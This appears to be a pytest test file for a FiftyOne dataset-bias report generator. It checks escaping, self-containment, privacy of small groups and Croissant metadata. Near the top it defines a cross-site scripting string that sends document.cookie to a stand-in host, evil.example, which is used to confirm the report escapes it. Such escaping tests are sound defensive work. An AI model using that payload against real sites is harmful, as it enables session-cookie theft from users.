"""The report: self-contained, escaped, readable in light, dark and print; JSON and Croissant from the same facts."""

import json
import re
import shutil
from html.parser import HTMLParser

import fiftyone as fo
import numpy as np
import pandas as pd
import pytest
from PIL import Image

from fiftyone_daebias import paths, schema, store
from fiftyone_daebias.errors import InputError
from fiftyone_daebias.reporting.cohort_facts import _field, cohort_facts, few
from fiftyone_daebias.reporting.facts import without_paths
from fiftyone_daebias.reporting.markup import Markup, el
from fiftyone_daebias.reporting.page import _told_groups
from fiftyone_daebias.stories.facts import Group

EVIL = '"><script>fetch("http://evil.example/"+document.cookie)</script><img src=x onerror=alert(1)>'


class Page(HTMLParser):
    """Tags, attributes and text of a page."""

    def __init__(self, text):
        super().__init__(convert_charrefs=True)
        self.tags, self.attributes, self.words, self.open = [], [], [], []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += [(tag, k, v) for k, v in attrs]
        if tag not in ("meta", "img", "br", "input"):
            self.open.append(tag)

    def handle_endtag(self, tag):
        assert self.open.pop() == tag, f"</{tag}> closes another element"

    def handle_data(self, data):
        self.words.append(data)


def assert_self_contained(text):
    page = Page(text)
    assert page.open == [] and "script" not in page.tags and "link" not in page.tags and "iframe" not in page.tags
    for tag, name, value in page.attributes:
        assert not name.startswith("on"), (tag, name)
        if name in ("src", "href"):
            known = ("data:image/png;base64,", "data:image/webp;base64,", "data:text/csv;base64,", "#")
            assert value.startswith(known), (tag, name, value)
    style = text.partition("<style>")[2].partition("</style>")[0]
    assert "url(" not in style and "@import" not in style
    return page


def test_the_builder_escapes_all_but_what_it_made():
    assert el("p", EVIL, el("b", "a<b")) == el("p", Markup("")).replace("</p>", "") + (
        "&quot;&gt;&lt;script&gt;fetch(&quot;http://evil.example/&quot;+document.cookie)&lt;/script&gt;"
        "&lt;img src=x onerror=alert(1)&gt;<b>a&lt;b</b></p>"
    )
    assert el("a", "x", title='" onclick="y', cls=None) == '<a title="&quot; onclick=&quot;y">x</a>'
    assert el("p", "a\u202eb\x00c") == "<p>a\ufffdb\ufffdc</p>"
    with pytest.raises(ValueError):
        el("p", **{"x onload": "1"})


def test_the_page_of_the_planted_cohort(audited):
    dataset, result = audited
    text = open(result.report, encoding="utf-8").read()
    page = assert_self_contained(text)
    words = " ".join(page.words)
    for title in (
        "In short",
        "The cohort",
        "Findings",
        "The map",
        "What can be read from the images",
        "Groups on the map",
        "Changes over time",
        "Looked for and not found",
        "Limits",
        "Method and provenance",
        "Data sheet",
        "Glossary",
    ):
        assert title in words
    assert "site.auc>0.6" in words and "FAILED" in words and "weight" in words
    assert "Benjamini-Hochberg" in words and "prefers-color-scheme" in text and "@media print" in text
    assert not re.search(r"\bP\d{3}\b", words) and "/nowhere" not in text  # no subject, no file
    links = {v[1:] for t, n, v in page.attributes if n == "href" and v.startswith("#")}
    ids = [v for t, n, v in page.attributes if n == "id"]
    assert links <= set(ids) and len(ids) == len(set(ids))
    assert "nan" not in re.findall(r"[a-z]+", words)


def test_the_same_runs_give_the_same_report(audited, tmp_path):
    dataset, _ = audited
    one, two = (dataset.daebias.report(tmp_path / n, progress=None).files for n in ("a.html", "b.html"))
    for kind in ("html", "json", "croissant"):
        assert open(one[kind], "rb").read() == open(two[kind], "rb").read()


def test_hostile_values_stay_text(cohort_maker, short, tmp_path):
    extra = {
        EVIL: lambda rng, s: np.array([EVIL, "b"])[rng.integers(0, 2, s.max() + 1)][s].tolist(),
        "ünï </style>": lambda rng, s: np.array(["</title><script>1</script>", "\u202egnp.exe"])[s % 2].tolist(),
    }
    dataset = cohort_maker("test-report-hostile")
    rng = np.random.default_rng(0)
    subject = np.repeat(np.arange(100), 2)
    # field names that FiftyOne itself takes; values are free
    for k, make in enumerate(extra.values()):
        store.write_values(
            dataset, f"field_{k}", dict(zip(store.sample_ids(dataset), make(rng, subject), strict=True)), "string"
        )
    figure = {"name": EVIL, "title": EVIL, "caption": EVIL, "png": "gone.png", "plotly": None}
    store.save_run(
        dataset,
        schema.EXPLAIN_RUN_PREFIX + "evil",
        {"comparison": EVIL},
        {"sentence": EVIL, "figures": [figure], "notes": [EVIL]},
    )
    result = dataset.daebias.audit(config=short, out=tmp_path / "evil.html", progress=None)
    dataset.daebias.review(
        next(f.key for f in result.findings.rows if f.kind == "probe"), note=EVIL, author=EVIL, progress=None
    )
    done = dataset.daebias.report(
        tmp_path / "evil.html", title=EVIL, description=EVIL, license=EVIL, creator=EVIL, progress=None
    )
    text = (tmp_path / "evil.html").read_text(encoding="utf-8")
    page = assert_self_contained(text)
    assert EVIL in " ".join(page.words) and "\u202e" not in text and "pictures are gone" in done.notes[0]
    json.loads((tmp_path / "evil.json").read_text())


def test_figures_of_other_rooms_are_inside(cohort_maker, tmp_path):
    dataset = cohort_maker("test-report-figures", n_subjects=12)
    folder = paths.figures_dir(dataset.name)
    folder.mkdir(parents=True)
    Image.fromarray(np.random.default_rng(0).integers(0, 255, (50, 2000, 3), dtype=np.uint8)).save(folder / "m.png")
    figure = {"name": "m", "title": "Mean", "caption": "n = 4", "png": "../../m.png", "plotly": None}
    store.save_run(dataset, schema.EXPLAIN_RUN_PREFIX + "x", {}, {"sentence": "s", "figures": [figure]})
    dataset.daebias.report(tmp_path / "f.html", progress=None)
    text = (tmp_path / "f.html").read_text()
    assert_self_contained(text)
    assert 'alt="Mean"' in text


def test_an_unaudited_dataset_has_a_report_too(cohort_maker, tmp_path):
    dataset = cohort_maker("test-report-unaudited", n_subjects=12)
    done = dataset.daebias.report(tmp_path / "u.html", progress=None)
    assert done.n_findings == 0
    page = assert_self_contained((tmp_path / "u.html").read_text())
    assert "Nothing has been computed on this dataset yet" in " ".join(page.words)


def test_the_page_does_not_grow_with_the_cohort(cohort_maker, tmp_path):
    tags = {
        "ward": lambda rng, subject: [f"W{k % 7}" for k in subject],
        "code": lambda rng, subject: [f"C{k}" for k in subject],
    }
    texts, pictures = [], []
    for n in (100, 1500):
        dataset = cohort_maker(f"test-report-size-{n}", planted=False, n_subjects=n, extra=tags)
        dataset.daebias.report(tmp_path / f"{n}.html", formats=["html"], progress=None)
        page = (tmp_path / f"{n}.html").read_text()
        maps = re.findall(r"data:image[^\"]+", page)
        pictures.append(max(map(len, maps)))
        texts.append(len(page) - sum(map(len, maps)))
    # what is written is bounded; a map of more dots is a picture of as many pixels, which are packed less tightly
    assert texts[1] < 1.05 * texts[0] and pictures[1] < 100_000


def test_small_groups_are_not_told(dataset_name):
    dataset = fo.Dataset(dataset_name)
    rare = ["common"] * 40 + ["rare disease"] * 4
    three = ["common"] * 30 + ["usual"] * 10 + ["rare disease"] * 4
    dataset.add_samples(
        [
            fo.Sample(
                filepath=f"/n/{k}.png", subject_id=f"P{k}", dx=rare[k], dx3=three[k], free=f"text {k}", age=float(k)
            )
            for k in range(44)
        ]
    )
    facts = cohort_facts(dataset, k=5)
    fields = {f.name: f for f in facts.fields}
    # the 4 of 44 would be the total less the 40, or less the 30 and the 10
    assert fields["dx"].values == () and fields["dx"].rest == 2
    assert fields["dx3"].values == (("common", 30),) and fields["dx3"].rest == 2
    assert not fields["free"].listed and fields["free"].values == ()
    assert fields["age"].quantiles[1:4] == (10.75, 21.5, 32.25) and np.isnan(fields["age"].quantiles[0])
    assert "rare disease" not in json.dumps(facts.to_dict())
    assert {f.name: f for f in cohort_facts(dataset, k=4).fields}["dx"].values[1] == ("rare disease", 4)
    assert (few(4, 5), few(5, 5), few(0, 5)) == (None, 5, 0)


def test_a_story_tells_no_small_group_and_none_that_is_a_difference():
    groups = (Group("a", 40, 40), Group("b", 20, 20), Group("c", 3, 3))
    assert _told_groups(groups, 5) == groups[:1] and _told_groups(groups, 3) == groups
    assert _told_groups((*groups, Group("d", 2, 2)), 5) == groups[:2]


def test_missing_values_are_counted(dataset_name):
    dataset = fo.Dataset(dataset_name)
    dataset.add_samples(
        [fo.Sample(filepath=f"/n/{k}.png", sex=None if k % 4 == 0 else "F", note="") for k in range(20)]
    )
    fields = {f.name: f for f in cohort_facts(dataset).fields}
    assert fields["sex"].n_missing == 5 and fields["note"].n_missing == 20 and fields["note"].n_values == 0
    assert not cohort_facts(dataset).has_subjects


def test_croissant_says_what_was_found_and_names_nobody(audited, tmp_path):
    dataset, _ = audited
    done = dataset.daebias.report(
        tmp_path / "c.html", formats=["croissant"], license="https://example.org/l", creator="The clinic", progress=None
    )
    assert list(done.files) == ["croissant"] and not (tmp_path / "c.html").exists()
    text = open(done.files["croissant"], encoding="utf-8").read()
    got = json.loads(text)
    assert got["@type"] == "sc:Dataset" and "http://mlcommons.org/croissant/RAI/1.0" in got["conformsTo"]
    for key in (
        "rai:dataBiases",
        "rai:dataLimitations",
        "rai:dataCollection",
        "rai:personalSensitiveInformation",
        "rai:dataCollectionMissingData",
        "rai:dataPreprocessingProtocol",
        "rai:dataCollectionTimeframe",
    ):
        assert got[key], key
    assert any("site can be read from the images (AUC" in b for b in got["rai:dataBiases"])
    assert got["license"] == "https://example.org/l" and got["creator"]["name"] == "The clinic"
    for record_set in got["recordSet"]:
        fields = {f["@id"] for f in record_set["field"]}
        assert record_set["data"] and all(set(row) <= fields for row in record_set["data"])
    assert not re.search(r"\bP\d{3}\b", text) and "/nowhere" not in text and dataset.first().id not in text
    croissant = pytest.importorskip("mlcroissant", reason="mlcroissant is not installed; its check is left out")
    assert not croissant.Dataset(jsonld=got).metadata.ctx.issues.errors


def test_bad_input_is_one_clear_error(audited, tmp_path):
    dataset, _ = audited
    for options, message in (
        ({"out": tmp_path / "x.pdf"}, "must end in .html"),
        ({"out": tmp_path / "no" / "x.html"}, "there is no folder"),
        ({"formats": ["pdf"]}, "formats must be of html, json, croissant"),
        ({"k": 0}, "k must be at least 1"),
        ({"color_by": ["sexx"]}, "field 'sexx' does not exist"),
    ):
        with pytest.raises(InputError, match=message):
            dataset.daebias.report(progress=None, **options)
    with pytest.raises(InputError, match="no samples"):
        dataset.match_tags("nobody").daebias.report(tmp_path / "x.html", progress=None)


def test_paths_of_this_machine_are_cut():
    assert without_paths("checkpoint 1a2b in /home/ana/.daebias/runs/abc: done") == "checkpoint 1a2b in …/abc: done"
    assert without_paths(r"see C:\Users\ana\x.csv") == r"see …/x.csv"
    assert without_paths("site.auc > 0.6, mg/kg, 12/2019") == "site.auc > 0.6, mg/kg, 12/2019"


@pytest.fixture(scope="module")
def chromium():
    executable = shutil.which("chromium") or shutil.which("google-chrome")
    if executable is None:
        pytest.skip("no Chromium on PATH; install Debian's package 'chromium' to look at the report")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=executable, args=["--no-sandbox"])
        yield browser
        browser.close()


def test_in_a_browser_nothing_is_fetched_and_nothing_overflows(audited, chromium, tmp_path):
    _, result = audited
    for scheme, width in (("light", 1200), ("dark", 1200), ("light", 390)):
        context = chromium.new_context(color_scheme=scheme, viewport={"width": width, "height": 900})
        page = context.new_page()
        asked, said = [], []
        page.on("request", lambda r, asked=asked: asked.append(r.url))
        page.on("console", lambda m, said=said: said.append(m.text))
        page.goto(f"file://{result.report}")
        assert [u for u in asked if not u.startswith(("file:", "data:"))] == [] and said == []
        assert page.evaluate("document.documentElement.scrollWidth") <= width
        fore, back = page.evaluate(
            "[getComputedStyle(document.body).color, getComputedStyle(document.body).backgroundColor]"
        )
        assert abs(brightness(fore) - brightness(back)) > 0.7 and (brightness(back) < 0.3) == (scheme == "dark")
        assert page.evaluate("[...document.images].every(i => i.naturalWidth > 50)")
        context.close()
    page = chromium.new_page()
    page.goto(f"file://{result.report}")
    page.pdf(path=str(tmp_path / "report.pdf"), prefer_css_page_size=True)
    assert (tmp_path / "report.pdf").stat().st_size > 20_000
    page.close()


def brightness(color):
    r, g, b = (int(v) for v in re.findall(r"\d+", color)[:3])
    return (0.299 * r + 0.587 * g + 0.114 * b) / 255


def test_values_that_are_as_frequent_are_listed_in_one_order():
    values = [f"value {k}" for k in (7, 3, 9, 1, 5)] * 6
    subjects = np.array([f"s{k}" for k in range(30)])
    found = _field("site", "string", pd.Series(values), subjects, 30, 1)
    assert [v for v, _ in found.values] == [f"value {k}" for k in (1, 3, 5, 7, 9)]
